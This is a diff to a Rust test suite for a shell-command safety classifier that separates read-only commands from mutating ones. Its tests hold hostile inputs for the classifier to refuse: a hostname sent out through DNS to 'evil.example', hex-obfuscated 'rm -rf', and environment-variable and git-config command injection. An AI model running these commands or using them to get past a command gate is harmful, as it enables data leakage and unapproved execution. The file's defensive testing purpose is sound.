@@ -54,7 +54,6 @@ const READ_ONLY: &[&str] = &[
     "kubectl describe pod web-1 -n prod",
     "kubectl logs deploy/web --tail=100",
     "kubectl top nodes",
-    "kubectl config view",
     "docker ps -a",
     "docker logs --tail 100 web",
     "docker stats --no-stream",
@@ -96,7 +95,7 @@ const READ_ONLY: &[&str] = &[
     "ls /nonexistent 2>/dev/null || echo missing",
     "echo $(hostname) $(uptime)",
     "echo `date`",
-    "for h in a b; do ping -c1 $h; done",
+    "for f in /var/log/*.log; do wc -l \"$f\"; done",
     "if systemctl is-active nginx; then echo up; fi",
     "[ -f /etc/hosts ] && cat /etc/hosts",
     "test -d /var/log",
@@ -210,6 +209,8 @@ const MUTATING: &[&str] = &[
     "source /etc/profile",
     "eval \"$CMD\"",
     "$CMD --force",
+    "for h in a b; do ping -c1 $h; done",
+    "kubectl config use-context prod",
     "X=1",
     "export PATH=/tmp:$PATH",
     "f(){ echo hi; }; f",
@@ -355,18 +356,148 @@ fn specialists_apply_their_rule() {
 }
 
 #[test]
-fn rule_prefixes_cover_only_commands() {
-    assert_eq!(analyze("df -h").rule_prefixes, Some(vec![]));
-    assert_eq!(analyze("sudo systemctl restart nginx").rule_prefixes, Some(vec!["systemctl restart".to_string()]));
+fn rule_keys_name_the_parsed_command() {
+    assert_eq!(analyze("df -h").rule_keys, Some(vec![]));
+    assert_eq!(analyze("systemctl restart nginx").rule_keys, Some(vec!["systemctl restart".to_string()]));
+    assert_eq!(analyze("systemctl restart --now nginx").rule_keys, Some(vec!["systemctl restart [--now]".to_string()]));
+    assert_eq!(analyze("sudo systemctl restart nginx").rule_keys, Some(vec!["sudo systemctl restart".to_string()]));
     assert_eq!(
-        analyze("mkdir -p /a && rm -rf /tmp/b").rule_prefixes,
-        Some(vec!["mkdir -p".to_string(), "rm -rf".to_string()])
+        analyze("mkdir -p /a && rm -rf /tmp/b").rule_keys,
+        Some(vec!["= mkdir -p /a".to_string(), "= rm -rf /tmp/b".to_string()])
     );
     assert_eq!(
-        analyze("echo hunter2 | sudo -S systemctl restart nginx").rule_prefixes,
-        Some(vec!["systemctl restart".to_string()])
+        analyze("echo hunter2 | sudo -S systemctl restart nginx").rule_keys,
+        Some(vec!["sudo [-S] systemctl restart".to_string()])
     );
-    assert_eq!(analyze("cat /etc/hosts > /tmp/x").rule_prefixes, None, "a redirection is not a command prefix");
-    assert_eq!(analyze("bash -c 'touch /tmp/x'").rule_prefixes, Some(vec!["touch /tmp/x".to_string()]));
-    assert_eq!(analyze("sh script.sh").rule_prefixes, None);
+    assert_eq!(analyze("cat /etc/hosts > /tmp/x").rule_keys, None, "a redirection is not a command");
+    assert_eq!(analyze("bash -c 'touch /tmp/x'").rule_keys, Some(vec!["= touch /tmp/x".to_string()]));
+    assert_eq!(analyze("sh script.sh").rule_keys, Some(vec!["sh".to_string()]));
+    // An option the person did not see changes the key.
+    let seen = analyze("git -C /srv/app pull").rule_keys;
+    let widened = analyze("git -C /srv/app -c core.fsmonitor=id pull").rule_keys;
+    assert_ne!(seen, widened);
+    assert_ne!(
+        analyze("kubectl -n prod delete pod x").rule_keys,
+        analyze("kubectl -n prod delete --force pod x").rule_keys
+    );
+    assert_eq!(analyze("kubectl -n prod delete pod x").rule_keys, analyze("kubectl -n prod delete pod y").rule_keys);
+}
+
+#[test]
+fn options_consume_their_values_like_the_program() {
+    for (cmd, needle) in [
+        ("kubectl -n get delete pod x", "kubectl delete"),
+        ("systemctl -p status restart x", "systemctl restart"),
+        ("docker -l info rm x", "docker rm"),
+        ("sed --in-pl s/a/b/ f", "--in-place"),
+        ("sort --outp=/tmp/x f", "--output"),
+        ("sort -uo/etc/hosts f", "-o"),
+        ("journalctl -n --vacuum-size=1", "--vacuum-size"),
+        ("curl -sXPOST http://x", "-X"),
+        ("git -cx=y log", "-c"),
+    ] {
+        let a = analyze(cmd);
+        assert!(!a.is_read_only(), "{cmd} was read-only");
+        assert!(a.reasons.iter().any(|r| r.contains(needle)), "{cmd}: {:?} should mention {needle}", a.reasons);
+    }
+}
+
+#[test]
+fn words_must_be_literal() {
+    for cmd in [
+        "$'\\x72m' -rf /tmp/x",
+        "find . $'-\\x64elete'",
+        "systemctl {status,restart} nginx",
+        "systemctl st* nginx",
+        "ping -c1 $(cat /etc/hostname).evil.example",
+        "echo $((a[$(id)]))",
+        "[[ $x -eq 1 ]]",
+        "[ -v 'a[$(id)]' ]",
+        "PATH=/tmp ls",
+        "GIT_EXTERNAL_DIFF=/tmp/x git diff",
+        "LESSOPEN='|id' ls",
+        "./ls",
+        "/tmp/ls -la",
+    ] {
+        assert!(!analyze(cmd).is_read_only(), "{cmd} was read-only: {:?}", analyze(cmd));
+    }
+}
+
+#[test]
+fn every_spec_example_holds() {
+    let programs = table::programs().expect("the spec table loads");
+    let mut wrong = Vec::new();
+    let mut count = 0;
+    for program in programs {
+        for cmd in &program.allow {
+            count += 1;
+            let a = analyze(cmd);
+            if !a.is_read_only() {
+                wrong.push(format!("{}: allow {cmd:?} → {:?}", program.names[0], a.reasons));
+            }
+        }
+        for cmd in &program.refuse {
+            count += 1;
+            if analyze(cmd).is_read_only() {
+                wrong.push(format!("{}: refuse {cmd:?} was read-only", program.names[0]));
+            }
+        }
+    }
+    assert!(wrong.is_empty(), "{} of {count} spec examples wrong:\n{}", wrong.len(), wrong.join("\n"));
+    assert!(count > 300, "only {count} examples");
+}
+
+/// One corpus file: (technique, command) pairs; `⏎` stands for a new line.
+fn corpus(text: &str) -> Vec<(String, String)> {
+    let mut technique = "unnamed".to_string();
+    let mut out = Vec::new();
+    for line in text.lines() {
+        if let Some(name) = line.strip_prefix("## technique:") {
+            technique = name.trim().to_string();
+        } else if !line.trim().is_empty() && !line.starts_with("# ") && line != "#" {
+            out.push((technique.clone(), line.replace('⏎', "\n")));
+        }
+    }
+    out
+}
+
+fn run_corpus(text: &str, want_read_only: bool) -> (usize, Vec<String>) {
+    let cases = corpus(text);
+    let mut counts: std::collections::BTreeMap<&str, (usize, usize)> = Default::default();
+    let mut wrong = Vec::new();
+    for (technique, cmd) in &cases {
+        let a = analyze(cmd);
+        let entry = counts.entry(technique).or_default();
+        entry.0 += 1;
+        if a.is_read_only() == want_read_only {
+            entry.1 += 1;
+        } else {
+            wrong.push(format!("[{technique}] {cmd:?} → {} {:?}", a.class.as_str(), a.reasons));
+        }
+    }
+    for (technique, (total, held)) in &counts {
+        println!("{technique:40} {held:4}/{total:<4}");
+    }
+    (cases.len(), wrong)
+}
+
+#[test]
+fn adversarial_corpus_is_refused() {
+    let (total, wrong) = run_corpus(include_str!("corpus/refuse.txt"), false);
+    assert!(total >= 300, "the corpus has {total} commands");
+    assert!(wrong.is_empty(), "{} of {total} hostile commands classed read-only:\n{}", wrong.len(), wrong.join("\n"));
+}
+
+#[test]
+fn diagnostic_corpus_is_allowed() {
+    let (total, wrong) = run_corpus(include_str!("corpus/allow.txt"), true);
+    assert!(total >= 150, "the corpus has {total} commands");
+    assert!(wrong.is_empty(), "{} of {total} diagnostics refused:\n{}", wrong.len(), wrong.join("\n"));
+}
+
+#[test]
+fn the_spec_table_loads() {
+    if let Err(e) = table::programs() {
+        panic!("{e}");
+    }
 }
